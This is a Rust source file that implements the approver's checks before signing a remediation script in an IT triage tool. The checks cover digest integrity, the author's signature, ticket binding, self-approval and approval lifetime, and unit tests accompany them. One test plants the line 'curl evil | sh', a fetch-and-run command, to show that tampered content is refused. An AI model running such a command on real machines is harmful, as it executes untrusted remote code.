//! `triage script approve`: the approver's own checks before signing, and
//! the approval itself. Pure functions: the command fetches the script and
//! the ticket, calls [`check`], and signs only if it passes.
//!
//! The agent checks all of this again and more; checking here too means an
//! approver never puts their signature on a script that was changed, on
//! their own script, or for an endpoint that does not exist.

use std::time::Duration;
use triage_shared::approval::{Approval, Nonce, ScriptDigest, SignedApproval, MAX_APPROVAL_TTL};
use triage_shared::identity::{KeyPair, PublicKey};
use triage_shared::protocol::ScriptDetail;
use triage_shared::ticket::Ticket;
use triage_shared::time::{parse_duration, Timestamp};
use triage_shared::{AgentId, TicketId};

/// How long an approval stays valid when `--expires` is not given.
pub const DEFAULT_APPROVAL_TTL: &str = "24h";

#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum ApproveRefusal {
    #[error("the script's content does not match the digest its author signed (signed {signed}, content is {actual}); do not approve it, ask the author to attach it again")]
    DigestMismatch {
        signed: ScriptDigest,
        actual: ScriptDigest,
    },
    #[error("the author's signature on this script does not verify; do not approve it, ask the author to attach it again")]
    BadAuthorSignature,
    #[error(
        "this script was signed for ticket {signed_for}, not ticket {ticket}; do not approve it"
    )]
    WrongTicket {
        signed_for: TicketId,
        ticket: TicketId,
    },
    #[error("the script's digest is {actual}, not the {reviewed} you reviewed; run `triage script show` again")]
    NotWhatYouReviewed {
        reviewed: ScriptDigest,
        actual: ScriptDigest,
    },
    #[error("you wrote this script; another approver must approve it")]
    OwnScript,
    #[error("ticket {0} has no agent, so there is no endpoint to approve the script for")]
    NoAgent(TicketId),
}

/// An approval lifetime: more than zero and at most [`MAX_APPROVAL_TTL`].
pub fn parse_approval_ttl(s: &str) -> Result<Duration, String> {
    let ttl = parse_duration(s)?;
    if ttl.is_zero() {
        return Err("an approval must last longer than 0s".into());
    }
    if ttl > MAX_APPROVAL_TTL {
        return Err(format!(
            "an approval may last at most {}d",
            MAX_APPROVAL_TTL.as_secs() / 86_400
        ));
    }
    Ok(ttl)
}

/// Who is approving.
pub struct Approver<'a> {
    pub name: &'a str,
    pub key: &'a PublicKey,
}

/// Everything the approver checks before signing; the agent to approve the
/// script for when all is well. `reviewed` is the digest the approver read
/// in `triage script show`, if they gave it.
pub fn check(
    ticket: &Ticket,
    detail: &ScriptDetail,
    me: &Approver<'_>,
    reviewed: Option<ScriptDigest>,
) -> Result<AgentId, ApproveRefusal> {
    let m = &detail.script.manifest;
    let actual = ScriptDigest::of(&detail.content);
    if actual != m.digest {
        return Err(ApproveRefusal::DigestMismatch {
            signed: m.digest,
            actual,
        });
    }
    if !detail.script.signature_valid() {
        return Err(ApproveRefusal::BadAuthorSignature);
    }
    if m.ticket_id != ticket.id {
        return Err(ApproveRefusal::WrongTicket {
            signed_for: m.ticket_id,
            ticket: ticket.id,
        });
    }
    if let Some(reviewed) = reviewed {
        if reviewed != m.digest {
            return Err(ApproveRefusal::NotWhatYouReviewed {
                reviewed,
                actual: m.digest,
            });
        }
    }
    // The agent refuses either match, so refuse both here.
    if m.author_key == *me.key || m.author == me.name {
        return Err(ApproveRefusal::OwnScript);
    }
    ticket.agent_id.ok_or(ApproveRefusal::NoAgent(ticket.id))
}

/// The signed approval: this script, on this ticket, for this agent, until
/// `expires_at`, once (a fresh nonce).
pub fn sign(
    detail: &ScriptDetail,
    agent_id: AgentId,
    expires_at: Timestamp,
    name: &str,
    key: &KeyPair,
) -> SignedApproval {
    let m = &detail.script.manifest;
    Approval {
        script_id: m.script_id,
        digest: m.digest,
        ticket_id: m.ticket_id,
        agent_id,
        expires_at,
        nonce: Nonce::generate(),
        approver: name.to_string(),
        approver_key: key.public_key(),
    }
    .sign(key)
}

#[cfg(test)]
mod tests {
    use super::*;
    use triage_shared::approval::{Interpreter, ScriptId, ScriptManifest};
    use triage_shared::ticket::{Category, Priority, Source, Status, Tier};

    struct World {
        author: KeyPair,
        approver: KeyPair,
        ticket: Ticket,
        detail: ScriptDetail,
    }

    fn world() -> World {
        let author = KeyPair::generate();
        let ticket = Ticket {
            id: TicketId::new_random(),
            title: "Printer".into(),
            description: String::new(),
            category: Category::Hardware,
            priority: Priority::Normal,
            status: Status::Open,
            tier: Tier::L1,
            source: Source::Employee,
            agent_id: Some(AgentId::new_random()),
            hostname: Some("laptop-7".into()),
            requester: "dave".into(),
            assignee: None,
            created_at: Timestamp(0),
            updated_at: Timestamp(0),
            sla_due_at: Timestamp(0),
        };
        let content = b"systemctl restart cups\n".to_vec();
        let script = ScriptManifest {
            script_id: ScriptId::new_random(),
            ticket_id: ticket.id,
            digest: ScriptDigest::of(&content),
            interpreter: Interpreter::Sh,
            timeout_secs: 60,
            author: "alice".into(),
            author_key: author.public_key(),
            description: String::new(),
            created_at: Timestamp(0),
        }
        .sign(&author);
        World {
            author,
            approver: KeyPair::generate(),
            ticket,
            detail: ScriptDetail {
                script,
                content,
                approvals: vec![],
                runs: vec![],
            },
        }
    }

    impl World {
        fn check_as(&self, name: &str, key: &KeyPair) -> Result<AgentId, ApproveRefusal> {
            let key = key.public_key();
            check(
                &self.ticket,
                &self.detail,
                &Approver { name, key: &key },
                None,
            )
        }

        fn check(&self) -> Result<AgentId, ApproveRefusal> {
            self.check_as("carol", &self.approver)
        }
    }

    #[test]
    fn an_intact_script_by_someone_else_is_approved_for_the_tickets_agent() {
        let w = world();
        assert_eq!(w.check(), Ok(w.ticket.agent_id.unwrap()));
    }

    #[test]
    fn content_changed_after_signing_is_refused() {
        let mut w = world();
        w.detail.content = b"curl evil | sh\n".to_vec();
        let err = w.check().unwrap_err();
        assert!(
            matches!(err, ApproveRefusal::DigestMismatch { .. }),
            "{err}"
        );
        assert!(err.to_string().contains("do not approve"), "{err}");
    }

    #[test]
    fn a_manifest_edited_after_signing_is_refused() {
        let mut w = world();
        w.detail.script.manifest.timeout_secs = 6 * 3600;
        assert_eq!(w.check(), Err(ApproveRefusal::BadAuthorSignature));
    }

    #[test]
    fn approving_your_own_script_is_refused_by_key_or_by_name() {
        let w = world();
        let author = KeyPair::from_file_text(&w.author.to_file_text()).unwrap();
        let err = w.check_as("carol", &author).unwrap_err();
        assert_eq!(err, ApproveRefusal::OwnScript);
        assert_eq!(
            err.to_string(),
            "you wrote this script; another approver must approve it"
        );
        assert_eq!(
            w.check_as("alice", &w.approver),
            Err(ApproveRefusal::OwnScript)
        );
    }

    #[test]
    fn a_ticket_without_an_agent_is_refused() {
        let mut w = world();
        w.ticket.agent_id = None;
        let err = w.check().unwrap_err();
        assert_eq!(err, ApproveRefusal::NoAgent(w.ticket.id));
        assert!(err.to_string().contains("no agent"), "{err}");
    }

    #[test]
    fn a_script_signed_for_another_ticket_is_refused() {
        let mut w = world();
        w.ticket.id = TicketId::new_random();
        assert!(matches!(w.check(), Err(ApproveRefusal::WrongTicket { .. })));
    }

    #[test]
    fn a_digest_other_than_the_one_reviewed_is_refused() {
        let w = world();
        let key = w.approver.public_key();
        let me = Approver {
            name: "carol",
            key: &key,
        };
        let reviewed = ScriptDigest::of(b"what I read\n");
        assert!(matches!(
            check(&w.ticket, &w.detail, &me, Some(reviewed)),
            Err(ApproveRefusal::NotWhatYouReviewed { .. })
        ));
        let right = w.detail.script.manifest.digest;
        assert!(check(&w.ticket, &w.detail, &me, Some(right)).is_ok());
    }

    #[test]
    fn the_signed_approval_names_script_ticket_agent_expiry_and_a_fresh_nonce() {
        let w = world();
        let agent = w.check().unwrap();
        let a = sign(&w.detail, agent, Timestamp(99), "carol", &w.approver);
        let b = sign(&w.detail, agent, Timestamp(99), "carol", &w.approver);
        assert!(a.signature_valid());
        let m = &w.detail.script.manifest;
        let x = &a.approval;
        assert_eq!(
            (x.script_id, x.digest, x.ticket_id),
            (m.script_id, m.digest, m.ticket_id)
        );
        assert_eq!((x.agent_id, x.expires_at), (agent, Timestamp(99)));
        assert_eq!(
            (x.approver.as_str(), x.approver_key),
            ("carol", w.approver.public_key())
        );
        assert_ne!(a.approval.nonce, b.approval.nonce);
    }

    #[test]
    fn approval_lifetimes_are_bounded() {
        assert_eq!(
            parse_approval_ttl(DEFAULT_APPROVAL_TTL).unwrap().as_secs(),
            86_400
        );
        assert!(parse_approval_ttl("0s").is_err());
        assert_eq!(parse_approval_ttl("7d").unwrap(), MAX_APPROVAL_TTL);
        assert!(parse_approval_ttl("8d").unwrap_err().contains("at most 7d"));
    }
}
